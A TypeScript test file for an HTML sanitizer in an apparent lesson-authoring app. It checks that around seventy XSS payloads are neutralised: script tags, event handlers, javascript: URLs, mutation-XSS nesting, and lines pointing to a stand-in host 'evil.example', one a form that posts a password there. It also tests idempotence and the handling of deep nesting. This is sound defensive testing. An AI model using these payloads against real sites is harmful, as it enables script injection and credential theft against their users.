import type { Nodes } from "hast";
import { fromHtml } from "hast-util-from-html";
import { beforeAll, describe, expect, it } from "vitest";
import { html, sanitizer } from "../../src/kernel/html.ts";
import { sanitized } from "../../src/kernel/sanitized.ts";

beforeAll(() => sanitizer.load());

/** After the OWASP, html5sec and DOMPurify collections; each in its own words. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='x' onerror\n=\n'alert(1)'>",
  "<img src=`x` onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  '<img src="javascript:alert(1)">',
  "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math href='javascript:alert(1)'>x</math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "<title></title><script>alert(1)</script></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<template><script>alert(1)</script></template>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='//evil.example' target=_blank onclick=alert(1)>x</a>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href='https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<form action=https://evil.example><input name=password><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>",
  "<p id=location>x</p><img name=cookie>",
  "<div id=__proto__>x</div>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<p class="x" onpointerover=alert(1)>x</p>',
  "<a ping='https://evil.example' href='https://a.example'>x</a>",
  "<img srcset='javascript:alert(1) 1x' src='https://a.example/i.png'>",
  "<img longdesc='javascript:alert(1)' src='https://a.example/i.png'>",
  "<blockquote cite='javascript:alert(1)'>x</blockquote>",
  "<del cite='javascript:alert(1)'>x</del>",
  "<p contenteditable autofocus onfocus=alert(1)>x</p>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<plaintext><script>alert(1)</script>",
];

const ELEMENTS = new Set(
  "a abbr b bdo blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var".split(
    " ",
  ),
);
const ADDRESSES = new Set(["href", "src", "cite", "longDesc", "poster", "action", "formAction"]);

/** What a browser would find dangerous in a tree that it parses out of the text. */
function dangers(node: Nodes): string[] {
  const inside = "children" in node ? node.children.flatMap(dangers) : [];
  if (node.type === "comment") return ["a comment", ...inside];
  if (node.type !== "element") return inside;
  const found: string[] = ELEMENTS.has(node.tagName) ? [] : [`<${node.tagName}>`];
  for (const [name, value] of Object.entries(node.properties)) {
    const text = String(value);
    if (/^on/i.test(name) || ["style", "id", "name", "srcDoc", "srcSet", "ping"].includes(name)) {
      found.push(`${node.tagName}.${name}`);
    }
    if (ADDRESSES.has(name) && /^[^/?#]*:/.test(text) && !/^(?:https?|mailto):/.test(text)) {
      found.push(`${node.tagName}.${name}=${text}`);
    }
  }
  return [...found, ...inside];
}

describe("html of an author", () => {
  it.each(ATTACKS)("carries nothing out of %s", (attack) => {
    const clean = sanitized(`<p>before</p>${attack}`);
    expect(dangers(fromHtml(clean, { fragment: true }))).toEqual([]);
    expect(clean).toContain("before");
  });

  it.each(ATTACKS)("is the same when it is sanitized again: %s", (attack) => {
    const once = sanitized(attack);
    expect(sanitized(once)).toBe(once);
  });

  it("keeps what a lesson is written with", () => {
    const lesson =
      '<h2>Title</h2><p>Text with <strong>bold</strong>, <em>italics</em> and <code>code</code>.</p><ul><li>One</li></ul><table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table><figure><img src="https://a.example/i.png" alt="A picture"><figcaption>Words</figcaption></figure><p><a href="https://a.example/?q=1&#x26;r=2">a link</a></p>';
    expect(sanitized(lesson)).toBe(lesson);
  });

  it("keeps every script's letters, and mends what is no Unicode", () => {
    expect(sanitized("<p>Ёлка 学习 تعلّم सीखना 👩‍🏫</p>")).toBe("<p>Ёлка 学习 تعلّم सीखना 👩‍🏫</p>");
    expect(sanitized("<p>\ud800x</p>")).toBe("<p>\ufffdx</p>");
  });

  it.each([
    ["nested thousands deep", "<div>".repeat(40_000)],
    ["formatting nested thousands deep", `${"<b>".repeat(20_000)}x`],
    [
      "formatting opened again in every block",
      Array.from({ length: 5_000 }, (_, at) => `<b class=${at}>`).join("") + "<p>".repeat(30_000),
    ],
    [
      "links opened again in every cell",
      `${"<a href=x><i>".repeat(5_000)}${"<td><p>".repeat(15_000)}`,
    ],
  ])("is refused, not a fault of the server, when %s", (_, deep) => {
    expect(() => html.safeParse(deep)).not.toThrow();
  });

  it("says what is wrong with a text too deep", () => {
    const parsed = html.safeParse("<div>".repeat(40_000));
    expect(parsed.error?.issues[0]?.message).toContain("nested too deep");
  });

  it("takes a long lesson with formatting in every paragraph", () => {
    const lesson = '<p>A <b>bold</b> <a href="https://a.example">word</a></p>'.repeat(3_000);
    expect(html.parse(lesson)).toBe(lesson);
  });
});
